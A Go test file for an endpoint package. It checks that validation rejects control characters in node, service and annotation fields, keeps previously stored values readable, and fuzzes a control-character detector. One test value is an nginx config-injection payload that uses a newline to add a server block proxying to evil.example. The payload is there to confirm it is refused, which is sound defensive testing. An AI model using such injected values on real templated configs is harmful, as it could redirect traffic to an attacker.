package endpoint

import (
	"errors"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// TestValidateRefusesControlCharacters: our own writes carry no control character in a
// name or an annotation value, where a template rendered on another node would print it
// (a newline ends a line of nginx config). The error names the field.
func TestValidateRefusesControlCharacters(t *testing.T) {
	for _, c := range []struct {
		name   string
		mutate func(*Endpoint)
		field  string
	}{
		{"newline in annotation value", func(e *Endpoint) {
			e.Annotations = map[string]string{"team": "edge;\n}\nserver {\n  proxy_pass http://evil.example;\n}"}
		}, "annotations[team]"},
		{"carriage return in annotation value", func(e *Endpoint) { e.Annotations = map[string]string{"a": "x\ry"} }, "annotations[a]"},
		{"tab in annotation value", func(e *Endpoint) { e.Annotations = map[string]string{"a": "x\ty"} }, "annotations[a]"},
		{"NUL in annotation value", func(e *Endpoint) { e.Annotations = map[string]string{"a": "x\x00"} }, "annotations[a]"},
		{"DEL in annotation value", func(e *Endpoint) { e.Annotations = map[string]string{"a": "x\x7f"} }, "annotations[a]"},
		{"C1 NEL in annotation value", func(e *Endpoint) { e.Annotations = map[string]string{"a": "x\u0085y"} }, "annotations[a]"},
		{"escape in annotation value", func(e *Endpoint) { e.Annotations = map[string]string{"a": "\x1b[31mred"} }, "annotations[a]"},
		{"newline in node", func(e *Endpoint) { e.Node = "node-1\nx" }, "node"},
		{"C1 NEL in node", func(e *Endpoint) { e.Node = "node-1\u0085x" }, "node"},
		{"newline in service", func(e *Endpoint) { e.Service = "web\n" }, "service"},
		{"newline in cluster", func(e *Endpoint) { e.Cluster = "prod\n" }, "cluster"},
		{"newline in protocol", func(e *Endpoint) { e.Protocol = "http\n" }, "protocol"},
		{"newline in annotation key", func(e *Endpoint) { e.Annotations = map[string]string{"a\nb": "x"} }, "annotations"},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := valid()
			c.mutate(&e)
			err := e.Validate()
			var fe *FieldError
			if !errors.As(err, &fe) || fe.Field != c.field || !errors.Is(err, ErrInvalid) {
				t.Fatalf("Validate() = %v, want a FieldError on %s", err, c.field)
			}
			if !strings.Contains(err.Error(), c.field) {
				t.Fatalf("error %q does not name %s", err, c.field)
			}
		})
	}
	// Printable text of every script stays writable.
	e := valid()
	e.Node = "nœud-1"
	e.Annotations = map[string]string{"a": "ünïcode, spaces; {braces} and \"quotes\" — 東京"}
	if err := e.Validate(); err != nil {
		t.Fatalf("Validate(printable) = %v", err)
	}
}

// TestValidateReadKeepsStoredControlCharacters: read liberally. An entry another writer
// (or an earlier release) stored with control characters in its node or annotation
// values is still readable; everything else is held to the write rules.
func TestValidateReadKeepsStoredControlCharacters(t *testing.T) {
	e := valid()
	e.Node = "node\u0085"
	e.Annotations = map[string]string{"pem": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", "tab": "a\tb"}
	if err := e.ValidateRead(); err != nil {
		t.Fatalf("ValidateRead() = %v, want nil", err)
	}
	if err := e.Validate(); err == nil {
		t.Fatal("Validate() accepted control characters")
	}
	data, err := e.MarshalJSON()
	if err != nil {
		t.Fatal(err)
	}
	if got, err := DecodeJSON(data); err != nil || !Equal(got, e) {
		t.Fatalf("DecodeJSON = %+v, %v; want %+v", got, err, e)
	}
	if _, err := FromProto(e.ToProto()); !errors.Is(err, ErrInvalid) {
		t.Fatalf("FromProto = %v, want the write rules' refusal of a request", err)
	}
	for name, mutate := range map[string]func(*Endpoint){
		"newline in service": func(e *Endpoint) { e.Service = "web\n" },
		"newline in node":    func(e *Endpoint) { e.Node = "a\nb" },
		"bad annotation key": func(e *Endpoint) { e.Annotations = map[string]string{"a\nb": "x"} },
		"invalid UTF-8":      func(e *Endpoint) { e.Annotations = map[string]string{"a": "\xff\n"} },
	} {
		e := valid()
		mutate(&e)
		if err := e.ValidateRead(); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: ValidateRead() = %v, want an error", name, err)
		}
	}
}

func FuzzHasControl(f *testing.F) {
	for _, s := range []string{"", "a", "a\nb", "\x7f", "\u0085", "\u00a0", "ü", "\xc2", "\xc2\x9f", "\u2028", "\u2029", "\u2027", "\xe2\x80"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			return
		}
		lineControl := func(r rune) bool { return unicode.IsControl(r) || r == '\u2028' || r == '\u2029' }
		if got, want := HasControl(s), strings.ContainsFunc(s, lineControl); got != want {
			t.Fatalf("HasControl(%q) = %v, unicode.IsControl or U+2028/U+2029 says %v", s, got, want)
		}
	})
}
